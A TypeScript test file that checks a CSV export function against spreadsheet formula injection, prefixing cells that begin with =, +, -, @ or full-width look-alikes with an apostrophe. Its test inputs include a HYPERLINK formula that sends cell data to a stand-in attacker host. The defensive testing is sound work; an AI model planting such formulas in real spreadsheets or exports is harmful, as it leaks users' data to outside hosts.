import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../../main/data/csv.ts';
import { spreadsheetText } from '../../../../main/data/spreadsheet-text.ts';

const cellOf = (text: string) => (parse(toCsv([[text]]), { bom: true }) as string[][])[0]?.[0];

const hostileText = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '＝',
        '＠',
        ';',
        '\t',
        '\r',
        '\n',
        '\0',
        ' ',
        '"',
        ',',
        "'",
      ),
      fc.string({ unit: 'grapheme', maxLength: 3 }),
    ),
    { minLength: 1, maxLength: 12 },
  )
  .map((parts) => parts.join(''))
  .filter((text) => text !== '');

describe('toCsv', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\ttext',
    '\rtext',
    '\ntext',
    '\u0000text',
    ' =1',
    '\u00a0=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("https://attacker.example?"&A1,"x")',
    '\u0000=1',
  ])('makes %j text', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  it.each([
    ['a;=1', "a;'=1"],
    ['a; \u00a0=1;+2', "a;' \u00a0=1;'+2"],
    ['a;＝1', "a;'＝1"],
    ['a\n=1', "a\n'=1"],
    ['a\r\n\t-1', "a\r\n'\t-1"],
    ['\n=1', "'\n'=1"],
    ['=1;=2', "'=1;'=2"],
  ])('makes %j text where a semicolon or a line break begins a cell', (text, cell) => {
    expect(cellOf(text)).toBe(cell);
  });

  it('is quick with text that is nothing but beginnings', () => {
    const text = `${';'.repeat(50_000)}${' '.repeat(50_000)}${'\n'.repeat(50_000)}`;

    expect(cellOf(`x${text}`)).toBe(`x${text}`);
  });

  it.each([
    'plain',
    'a; b',
    'a;b=1',
    'a=b',
    'a-b',
    'user@example',
    '',
    '1.5',
    'two words',
    'Grüße',
    '日本',
  ])('leaves %j as it is', (text) => {
    expect(cellOf(text) ?? '').toBe(text);
  });

  it('gives every cell back, whatever is in it', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const cell = cellOf(text) ?? '';
        // Apostrophes come in; nothing else comes or goes.
        expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
        expect(cell).toBe(spreadsheetText(text));
        expect(cell).not.toMatch(/^[\s\0]*[=+\-@＝＋－＠]|[;\r\n][\s\0]*[=+\-@＝＋－＠]/u);
      }),
    );
  });

  it('writes numbers, yes and no, and nothing', () => {
    expect(toCsv([[1, true, null, 'a,b', 'say "hi"', 'two\r\nlines']])).toBe(
      '\ufeff1,true,,"a,b","say ""hi""","two\r\nlines"\r\n',
    );
  });
});
